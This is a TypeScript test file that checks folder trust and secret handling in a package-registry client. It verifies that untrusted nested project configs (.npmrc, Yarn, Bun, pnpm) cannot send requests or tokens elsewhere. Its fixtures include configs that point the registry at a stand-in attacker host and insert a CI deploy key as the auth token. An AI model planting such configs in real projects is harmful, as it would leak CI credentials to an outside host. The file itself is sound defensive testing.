// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is how npm writes its variables.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type FolderTrust, trustOf } from '../../../server/src/core/read/project/folder-trust.ts';
import type { HttpRequest } from '../../../server/src/engine/ports.ts';
import type { EngineSettings } from '../../../server/src/engine/settings.ts';
import { openFiles, TEST_REGISTRY } from '../../workspace.ts';

describe('how far a folder is trusted', () => {
  const CASES: readonly [root: string, folders: readonly string[], around: boolean, FolderTrust][] = [
    ['file:///a', ['file:///a'], false, 'trusted'],
    ['file:///a/docs/example', ['file:///a'], false, 'nested'],
    ['file:///ab', ['file:///a'], false, 'untrusted'],
    ['file:///', ['file:///a'], false, 'untrusted'],
    ['file:///a', ['file:///a/packages/app'], false, 'untrusted'],
    ['file:///a', ['file:///a/packages/app'], true, 'trusted'],
    ['file:///a/docs', ['file:///a', 'file:///a/docs'], false, 'trusted'],
    ['file:///a', [], true, 'untrusted'],
  ];
  for (const [root, folders, withProjectAround, expected] of CASES) {
    test(`${root} with ${folders.join(' ') || 'none'}${withProjectAround ? ' and what is around' : ''}`, () => {
      assert.equal(trustOf(root, { folders, withProjectAround }), expected);
    });
  }
});

interface Case {
  readonly files: Readonly<Record<string, string>>;
  readonly userNpmrc?: string;
  readonly settings?: Partial<EngineSettings>;
}

const SECRET = { CI_DEPLOY_KEY: 'h0sh' };
const MANIFEST = '{"dependencies":{"left-pad":"^1.0.0","@acme/ui":"^1.0.0"}}';

/** Returns the requests for both dependencies of the project at the path, and the reasons for the missing ones. */
async function asked(path: string, { files, userNpmrc, settings }: Case) {
  const sent: HttpRequest[] = [];
  const workspace = await openFiles(new Map(Object.entries(files)), {
    settings: { online: true, trusted: true, ...settings },
    environment: SECRET,
    ...(userNpmrc === undefined ? {} : { userNpmrc }),
    http: {
      async get(request) {
        sent.push(request);
        return { type: 'answer', status: 404, headers: new Map(), body: '' };
      },
    },
  });
  const { project } = workspace.snapshot.projects.find((each) => each.project.root === workspace.uri(path))!;
  const why: string[] = [];
  for (const name of ['left-pad', '@acme/ui']) {
    const fact = await workspace.session.packument(project, name);
    if (fact.state === 'unavailable') why.push(`${name}: ${fact.reason}`);
  }
  assert.ok(!JSON.stringify(sent.map(({ url, headers }) => [url, headers])).includes('h0sh') || path === '');
  return { sent: sent.map(({ url, headers }) => `${url} ${headers?.authorization ?? '-'}`), why };
}

const NESTED = 'docs/example';
const EVIL = 'registry=https://x.evil.example.test/\n//x.evil.example.test/:_authToken=${CI_DEPLOY_KEY}\n';
const withNested = (npmrc: string, more: Record<string, string> = {}) => ({
  'package.json': '{"name":"shop","workspaces":["packages/*"]}',
  [`${NESTED}/package.json`]: MANIFEST,
  [`${NESTED}/.npmrc`]: npmrc,
  ...more,
});

describe("a nested project's own configuration", () => {
  test('gets no variable and no request', async () => {
    const { sent, why } = await asked(NESTED, { files: withNested(EVIL) });
    assert.deepEqual([sent, why], [[], ['left-pad: untrusted', '@acme/ui: untrusted']]);
  });

  test('gets neither for a scope, while the default registry is asked', async () => {
    const npmrc =
      '@acme:registry=https://x.evil.example.test/\n//x.evil.example.test/:_authToken=${CI_DEPLOY_KEY}\n';
    const { sent, why } = await asked(NESTED, { files: withNested(npmrc) });
    assert.deepEqual(sent, [`${TEST_REGISTRY}left-pad -`]);
    assert.deepEqual(why, ['@acme/ui: untrusted']);
  });

  test('sends no variable to the public registry', async () => {
    const host = new URL(TEST_REGISTRY).host;
    const { sent } = await asked(NESTED, {
      files: withNested(`//${host}/:_authToken=\${CI_DEPLOY_KEY}\n`),
    });
    assert.deepEqual(sent, [`${TEST_REGISTRY}left-pad -`, `${TEST_REGISTRY}@acme%2fui -`]);
  });

  test('in the files of pnpm, Yarn and Bun neither', async () => {
    const yarnrc = 'npmRegistryServer: "https://x.evil.example.test"\nnpmAuthToken: "${CI_DEPLOY_KEY}"\n';
    const bunfig =
      '[install]\nregistry = { url = "https://x.evil.example.test", token = "$CI_DEPLOY_KEY" }\n';
    const pnpm = "registries:\n  default: 'https://x.evil.example.test/'\n";
    const kinds: readonly Record<string, string>[] = [
      { [`${NESTED}/.yarnrc.yml`]: yarnrc, [`${NESTED}/yarn.lock`]: '__metadata:\n  version: 8\n' },
      { [`${NESTED}/bunfig.toml`]: bunfig, [`${NESTED}/bun.lock`]: '{ "lockfileVersion": 1 }' },
      { [`${NESTED}/pnpm-workspace.yaml`]: pnpm, [`${NESTED}/pnpm-lock.yaml`]: "lockfileVersion: '9.0'\n" },
    ];
    for (const more of kinds) {
      const { sent, why } = await asked(NESTED, { files: withNested('', more) });
      assert.deepEqual([sent, why.length], [[], 2], Object.keys(more)[0]!);
    }
  });

  test("is asked with the user's credential where the user's own configuration names the host", async () => {
    const acme = '@acme:registry=https://npm.acme.example.test/a/\n';
    const token = '//npm.acme.example.test/a/:_authToken=mine\n';
    const url = 'https://npm.acme.example.test/a/@acme%2fui';
    for (const [userNpmrc, authorization] of [
      [token, 'Bearer mine'],
      [acme, '-'],
      [acme + token, 'Bearer mine'],
    ] as const) {
      const { sent } = await asked(NESTED, { files: withNested(acme), userNpmrc });
      assert.deepEqual(sent, [`${TEST_REGISTRY}left-pad -`, `${url} ${authorization}`], userNpmrc);
    }
    const elsewhere = '@acme:registry=https://npm.acme.example.test/a/../b/\n';
    const { sent, why } = await asked(NESTED, { files: withNested(elsewhere), userNpmrc: token });
    assert.deepEqual([sent.length, why], [1, ['@acme/ui: untrusted']]);
  });

  test('leads no private name to the public registry', async () => {
    const host = new URL(TEST_REGISTRY).host;
    const files = withNested(`@acme:registry=${TEST_REGISTRY}\n`, {
      '.npmrc': '@acme:registry=https://npm.acme.example.test/\n',
    });
    const { sent } = await asked(NESTED, { files, userNpmrc: `//${host}/:_authToken=mine\n` });
    assert.deepEqual(sent, [`${TEST_REGISTRY}left-pad Bearer mine`]);
  });

  test('of a workspace member is not read at all', async () => {
    const files = {
      'package.json': '{"name":"shop","workspaces":["packages/*"]}',
      'packages/app/package.json': MANIFEST,
      'packages/app/.npmrc': EVIL,
    };
    const { sent } = await asked('', { files });
    assert.deepEqual(sent, [`${TEST_REGISTRY}left-pad -`, `${TEST_REGISTRY}@acme%2fui -`]);
  });

  test('counts where the folder is trusted by name', async () => {
    const files = withNested('registry=https://npm.acme.example.test/\n');
    const settings = { trusted: false, trustedFolders: [`file:///workspace/${NESTED}`] };
    const { sent } = await asked(NESTED, { files, settings });
    assert.equal(sent[0], 'https://npm.acme.example.test/left-pad -');
  });

  test('of the root counts, and its variables reach its own registry and no other host', async () => {
    const files = {
      'package.json': MANIFEST,
      '.npmrc':
        '@acme:registry=https://npm.acme.example.test/\n//npm.acme.example.test/:_authToken=${CI_DEPLOY_KEY}\n',
    };
    const { sent } = await asked('', { files });
    assert.deepEqual(sent, [
      `${TEST_REGISTRY}left-pad -`,
      'https://npm.acme.example.test/@acme%2fui Bearer h0sh',
    ]);
  });

  test('sends nothing where nothing is trusted', async () => {
    const { sent, why } = await asked(NESTED, { files: withNested(EVIL), settings: { trusted: false } });
    assert.deepEqual([sent, why], [[], ['left-pad: untrusted', '@acme/ui: untrusted']]);
  });
});
